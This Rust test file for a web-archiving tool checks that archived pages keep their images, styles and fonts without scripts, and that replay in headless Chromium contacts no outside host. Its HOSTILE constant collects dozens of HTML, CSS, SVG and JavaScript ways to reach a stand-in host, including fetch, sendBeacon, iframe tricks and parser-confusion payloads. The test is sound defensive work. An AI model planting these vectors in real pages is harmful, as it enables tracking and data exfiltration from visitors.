//! What archived pages need is taken with them, and a hostile one reaches nobody: in a real browser.

use std::path::PathBuf;
use std::process::Command;
use std::sync::Arc;

use ibid::app::config::Access;
use ibid::app::wiring;
use ibid::catalog::accounts::Role;
use ibid::catalog::records::HeldCapture;
use ibid::cli::check::runtime;
use ibid::model::url::TargetUrl;
use ibid::workflow::requisites::{self, Settings};
use tempfile::TempDir;

use crate::support::desk::OpenDesk;
use crate::support::house::Ibid;
use crate::support::site::{Answer, Page, Site};

const URL: &str = "http://press.example/a";

/// Words enough to be a page.
const WORDS: &str = "<p>The council decided on Tuesday to keep the old bridge, which the engineers had \
    called unsafe a year before, until the new one is open to all traffic.</p>";

fn of_type(page: Page, media_type: &str, body: &str) {
    let answer = Answer::status(200).header("Content-Type", media_type);
    page.answers(answer.body(body.as_bytes()));
}

/// Takes what the pages of a house need; gives how many pages those were.
fn completed(house: &Ibid) -> usize {
    let settings = Settings {
        max_count: 10,
        max_bytes: 1 << 20,
    };
    runtime().unwrap().block_on(async {
        let (tools, _) = wiring::open(&house.config, house.clock()).unwrap();
        let done = requisites::complete_next(&tools, settings).await.unwrap();
        let archive = Arc::clone(&tools.archive);
        drop(tools);
        Arc::into_inner(archive).unwrap().close().await.unwrap();
        done
    })
}

fn capture_of(desk: &OpenDesk, url: &str) -> HeldCapture {
    let surt = TargetUrl::parse(url).unwrap().surt();
    let source = desk.tools.catalog.source(&surt).unwrap().unwrap();
    desk.tools.catalog.captures_of(source.id).unwrap().remove(0)
}

#[test]
fn a_page_has_its_images_sheets_and_fonts_and_no_script() {
    let site = Site::start();
    site.page("/a").says(&format!(
        "<link rel=stylesheet href=s.css><script src=x.js></script><img src=i.png><img src=gone.png>{WORDS}"
    ));
    of_type(
        site.page("/s.css"),
        "text/css",
        "@import 't.css'; @font-face{font-family:f;src:url(f.woff2)} p{color:red}",
    );
    of_type(site.page("/t.css"), "text/css", "p{background:url(b.png)}");
    of_type(site.page("/f.woff2"), "font/woff2", "a font");
    of_type(site.page("/i.png"), "image/png", "\u{89}PNG an image");
    of_type(site.page("/b.png"), "image/png", "\u{89}PNG a background");
    of_type(site.page("/x.js"), "text/javascript", "live()");
    let house = Ibid::on(&site, &["press.example"]);
    house.cites(&[(URL, "2020/11/24")]);
    house.check();

    assert_eq!(completed(&house), 1);
    assert_eq!(completed(&house), 0);
    let desk = OpenDesk::on(house);
    let page = capture_of(&desk, URL);
    let requisites = desk.tools.catalog.requisites_of(page.id).unwrap();
    let mut held: Vec<_> = requisites
        .iter()
        .map(|it| it.capture.url.as_str().rsplit('/').next().unwrap())
        .collect();
    held.sort_unstable();
    assert_eq!(held, ["b.png", "f.woff2", "i.png", "s.css", "t.css"]);
    assert_eq!(site.page("/x.js").visits(), 0);
    assert_eq!(site.page("/s.css").visits(), 1);

    let reader = desk.account("rita", Role::Reader, &[]);
    let image = reader.get("/web/20201124120000id_/http://press.example/i.png");
    assert_eq!(image.status, 200);
    assert_eq!(image.field("content-type"), "image/png");
    let frozen = reader.get(&format!("/captures/{}/frozen", page.id));
    assert_eq!(frozen.status, 200);
    assert!(
        frozen
            .field("content-disposition")
            .contains("press.example-20201124120000.html")
    );
    for part in [
        "data:image/png;base64,",
        "href=\"data:text/css;",
        "the old bridge",
    ] {
        assert!(frozen.body.contains(part), "{part}: {}", frozen.body);
    }
    assert!(!frozen.body.contains("<script"), "{}", frozen.body);
}

#[test]
fn the_need_of_a_closed_page_is_closed_too() {
    let site = Site::start();
    site.page("/a").says(&format!("<img src=i.png>{WORDS}"));
    of_type(site.page("/i.png"), "image/png", "\u{89}PNG an image");
    let mut house = Ibid::on(&site, &["press.example"]);
    house.cites(&[(URL, "2020/11/24")]);
    house.check();
    house.config.desk.access = Access::Closed;
    assert_eq!(completed(&house), 1);
    let desk = OpenDesk::on(house);
    let image = "/web/20201124120000id_/http://press.example/i.png";
    assert_eq!(
        desk.account("ina", Role::Reader, &[""]).get(image).status,
        200
    );
    // Nothing at all is open to this one.
    let answer = desk.account("rita", Role::Reader, &[]).get(image);
    assert_eq!(answer.status, 404);
}

/// A page that tries all that is known to reach somebody. `LIVE` is the host that nobody may reach.
const HOSTILE: &str = r#"<!doctype html><html manifest="//LIVE/1"><head>
<link rel=preconnect href="//LIVE"><link rel="dns-prefetch preconnect" href="http://LIVE/">
<link rel=prefetch href="//LIVE/2"><link rel=preload as=image href="//LIVE/3"><link rel=modulepreload href="//LIVE/4">
<link rel=manifest href="//LIVE/5"><link rel=icon href="//LIVE/6"><link rel="stylesheet preconnect" href="//LIVE/7">
<meta http-equiv=refresh content="1;url=http://LIVE/8"><meta http-equiv="&#x72;efresh" content="1;url=//LIVE/9">
<script>fetch("http://LIVE/10");new Image().src="//LIVE/11";navigator.sendBeacon("//LIVE/12")</script>
<script src="//LIVE/13"></script><script type=importmap>{"imports":{"x":"//LIVE/14"}}</script>
<script type=module>import "x"</script><script>navigator.serviceWorker.register("/sw.js")</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://LIVE/15"]}]}</script>
<style>@import "//LIVE/16";@import url(http://LIVE/17);@font-face{font-family:f;src:url(//LIVE/18)}
body{font-family:f;background:u\72l(//LIVE/19);list-style:image-set("//LIVE/20" 1x)}</style></head>
<body background="//LIVE/21" onload="fetch('//LIVE/22')">
<img src="//LIVE/23" srcset="//LIVE/24 1x, //LIVE/25 2x" onerror="location='//LIVE/26'">
<img src=x onerror="fetch('//LIVE/27')"><picture><source srcset="//LIVE/28"><img src="http://LIVE/29"></picture>
<svg><image href="//LIVE/30"/><use href="//LIVE/31#a"/><script>fetch("//LIVE/32")</script>
<animate attributeName=href to="//LIVE/33"/><rect fill="url(//LIVE/34#p)" width=9 height=9 /></svg>
<iframe src="//LIVE/35"></iframe><iframe srcdoc="&lt;img src=//LIVE/36&gt;&lt;script&gt;fetch('//LIVE/37')&lt;/script&gt;"></iframe>
<iframe src="data:text/html,&lt;img src=http://LIVE/38&gt;"></iframe><iframe src="javascript:fetch('//LIVE/39')"></iframe>
<object data="//LIVE/40"><img src="//LIVE/41"></object><embed src="//LIVE/42"><video src="//LIVE/43" poster="//LIVE/44" autoplay></video>
<audio src="//LIVE/45" autoplay></audio><form id=f action="//LIVE/46"><input type=image src="//LIVE/47"></form>
<script>f.submit()</script><a id=a href="//LIVE/48" ping="//LIVE/49">a</a><script>a.click()</script>
<noscript><img src="//LIVE/50"><style></noscript><p title="</style><link rel=preconnect href=//LIVE><img src=//LIVE/51>">
<select><xmp></select><link rel=preconnect href="//LIVE"><script>fetch("//LIVE/52")</script></xmp>
<math href="//LIVE/53"><mi>x</mi></math><base href="//LIVE/"><img src="54"><template shadowrootmode=open></template>
<div style="background:url('//LIVE/55')">"#;

/// Where Chromium is.
fn chromium() -> Option<PathBuf> {
    let named = std::env::var_os("CHROMIUM").map(PathBuf::from);
    let path = std::env::var_os("PATH").unwrap_or_default();
    let folders: Vec<PathBuf> = std::env::split_paths(&path).collect();
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .flat_map(|name| folders.iter().map(move |folder| folder.join(name)))
        .find(|file| file.is_file());
    named.or(found)
}

/// Looks at an address, and gives the document as it is in the end.
fn looked_at(chromium: &PathBuf, address: &str, live: &Site) -> String {
    let folder = TempDir::new().unwrap();
    let rules = format!(
        "MAP live.example {}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        live.address()
    );
    let shown = Command::new(chromium)
        .args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
        ])
        .arg(format!("--user-data-dir={}", folder.path().display()))
        .arg(format!("--host-resolver-rules={rules}"))
        .args([
            "--virtual-time-budget=5000",
            "--timeout=20000",
            "--dump-dom",
            address,
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&shown.stdout).into_owned()
}

#[test]
fn nothing_of_a_hostile_page_runs_and_nothing_leaves() {
    let Some(chromium) = chromium() else {
        eprintln!("there is no chromium: not tried. On Debian: apt-get install chromium");
        return;
    };
    let hostile = HOSTILE.replace("LIVE", "live.example");
    let live = Site::start();
    live.page("/hostile").says(&hostile);
    // In the open it reaches whom it wants, else this proves nothing.
    looked_at(&chromium, "http://live.example/hostile", &live);
    assert!(
        live.requests() > 5,
        "only {} were asked for",
        live.requests()
    );
    let (connections, requests) = (live.connections(), live.requests());

    let site = Site::start();
    // With so many words it is no page that only sends its readers on.
    let begun = format!("{}<img", WORDS.repeat(8));
    site.page("/a").says(&hostile.replacen("<img", &begun, 1));
    let mut house = Ibid::on(&site, &["press.example"]);
    house.cites(&[(URL, "2020/11/24")]);
    house.config.desk.access = Access::Open;
    house.check();
    let desk = OpenDesk::on(house);
    let frame = format!("/captures/{}/replay", capture_of(&desk, URL).id);
    let page = desk.stranger().get(&frame);
    let origin = format!("http://{}/", desk.replays);
    let address = page
        .body
        .split('"')
        .find(|it| it.starts_with(&origin))
        .unwrap();
    let top = format!("http://{}/web/20201124120000/{URL}", desk.address);
    for (address, word) in [
        (format!("http://{}{frame}", desk.address), "<iframe"),
        (address.to_owned(), "the old bridge"),
        (top, "the old bridge"),
    ] {
        let shown = looked_at(&chromium, &address, &live);
        assert!(shown.contains(word), "{address}: {shown}");
        assert_eq!(live.requests(), requests, "{address} asked for something");
        assert_eq!(live.connections(), connections, "{address} connected");
    }
}
